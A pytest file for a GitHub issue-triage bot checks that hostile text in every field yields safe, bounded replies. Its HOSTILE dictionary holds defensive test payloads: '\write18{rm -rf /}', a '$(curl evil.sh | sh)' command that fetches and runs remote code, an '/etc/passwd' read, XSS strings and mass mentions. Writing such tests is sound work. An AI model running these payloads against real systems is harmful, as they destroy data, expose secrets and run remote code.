"""Hostile text in every slot: replies stay well-formed, ping nobody and carry no raw HTML."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bot.batch.followup import plan_merged
from bot.issue.commands import Accept, Reject, Thank, parse_commands
from bot.issue.decisions import plan_command, plan_comment
from bot.issue.state import DATA_PREFIX, MARKER, decode_state
from bot.issue.triage import COMMENT_BUDGET, IssueInfo, plan_triage
from bot.models import CheckResult, Query, Reference, ScoredReference, Skipped
from bot.suggestions import PaperRecord, Suggestion
from tests.conftest import RENDERER
from tests.triage.helpers import CONFIG, CONFIG_ZH, assert_safe, merged_all

HOSTILE = {
    "latex": r"\input{/etc/passwd} \write18{rm -rf /}",
    "everyone": "@everyone @octocat please look, mail me at a@b.org",
    "html": '<img src=x onerror="alert(1)"><script>alert(2)</script>',
    "actions": "${{ secrets.GITHUB_TOKEN }} $(curl evil.sh | sh)",
    "invisible": "ab\u200bc\u202egnp.exe\u2066x\u2069 \ufeff@\u200beveryone",
    "markers": f"--> {MARKER} {DATA_PREFIX}eyJ2Ijo5OX0 --> <!--",
    "markdown": "# Heading\n- item\n```\ncode\n```\n> quote [x](javascript:alert(1)) | cell |",
    "huge": "A" * 65_000,
}
CONFIGS = [pytest.param(CONFIG, id="en"), pytest.param(CONFIG_ZH, id="zh")]


def _triage(text: str, config=CONFIG):
    """One paper of each kind, with ``text`` in every string the reader or a service controls."""
    ref = Reference(title=text, number=3, key=text, source=text, line=9)
    record = PaperRecord(
        title=text,
        authors=(text,) * 50,
        venue=text,
        published_venue=text,
        url=text,
        arxiv="2308.09662",
        doi="10.1234/" + text[:100],
    )
    suggestions = [
        Suggestion(arxiv="2308.09662", title=text, section=text, thank_as=text),
        Suggestion(title=text, url=text),
        Suggestion(doi="10.1/x", title=text + "2"),
        Suggestion(title=text + "3"),
    ]
    resolutions = [
        record,
        replace(record, arxiv="2401.00001"),
        replace(record, arxiv="2401.00002"),
        Skipped(text, text),
    ]
    results = [
        CheckResult(Query(title=text), "new"),
        CheckResult(Query(title=text), "cited", match=ref, score=0.99),
        CheckResult(
            Query(title=text), "ambiguous", candidates=(ScoredReference(ref, 0.8, text),) * 9
        ),
        None,
    ]
    issue = IssueInfo(number=1, author_login="reader", labels=(text,))
    return plan_triage(issue, suggestions, resolutions, results, config, None, renderer=RENDERER)


@pytest.mark.parametrize("config", CONFIGS)
@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_triage_comment(text: str, config):
    plan = _triage(text, config)
    body = plan.comment_body
    assert_safe(body)
    assert len(body) <= COMMENT_BUDGET
    assert body.count(MARKER) == 1 and body.count(DATA_PREFIX) == 1
    assert decode_state(body).state == plan.state
    assert "<img" not in body and "<script" not in body
    if "\\input" in text:
        assert "\\\\input" in body  # shown escaped: literal text, never a command


@pytest.mark.parametrize("config", CONFIGS)
@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_command_replies(text: str, config):
    plan = _triage(text, config)
    issue = IssueInfo(number=1, author_login="reader", labels=plan.labels_to_add)
    one_line = " ".join(text.split())
    for command in (
        Accept((1,), section=one_line),
        Reject(one_line),
        Thank("bob", one_line),
        Accept((2, 3)),
    ):
        result = plan_command(
            command, "maint", "write", config, plan.state, issue, renderer=RENDERER
        )
        for out in (result.reply_body, result.comment_body):
            if out:
                assert_safe(out)
    accepted = plan_command(
        Accept((1,)), "m", "admin", config, plan.state, issue, renderer=RENDERER
    ).new_state
    merged = plan_merged(accepted, 5, merged_all(accepted, issue), config, issue, renderer=RENDERER)
    assert_safe(merged.reply_body)


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_comment_bodies(text: str):
    plan = _triage("Some title")
    issue = IssueInfo(number=1, author_login="reader", labels=plan.labels_to_add)
    body = "\n".join(
        f"/{word} {text}" for word in ("accept", "reject", "thank", "foo", "accept 1 section:")
    )
    for actor, permission in (("maint", "write"), ("stranger", "read")):
        result = plan_comment(
            parse_commands(body + "\n" + text),
            actor,
            permission,
            CONFIG,
            plan.state,
            issue,
            renderer=RENDERER,
        )
        assert_safe(result.reply_body)
        if result.comment_body:
            assert_safe(result.comment_body)


def test_a_huge_comment_of_commands_gives_one_bounded_reply():
    plan = _triage("Some title")
    body = ("/accept 99\n" * 5000) + "x" * 65_000
    result = plan_comment(
        parse_commands(body), "maint", "write", CONFIG, plan.state, IssueInfo(1), renderer=RENDERER
    )
    assert_safe(result.reply_body)
    assert len(result.reply_body) < 2000  # identical errors are said once


def test_huge_metadata_is_shrunk_to_fit():
    text = "B" * 65_000
    record = PaperRecord(
        title=text,
        authors=tuple(f"{text[:90]}{i}" for i in range(5000)),
        venue=text,
        arxiv="2308.09662",
    )
    ref = Reference(title=text, key=text)
    items = 10
    plan = plan_triage(
        IssueInfo(1, "reader"),
        [Suggestion(arxiv=f"2401.{i:05d}", title=text) for i in range(items)],
        [replace(record, arxiv=f"2401.{i:05d}") for i in range(items)],
        [CheckResult(Query(), "ambiguous", candidates=(ScoredReference(ref, 0.5, "t"),) * 5)]
        * items,
        CONFIG,
        None,
        renderer=RENDERER,
    )
    assert len(plan.comment_body) <= COMMENT_BUDGET
    assert len(plan.state.papers) + plan.state.omitted == items
    assert decode_state(plan.comment_body).state == plan.state
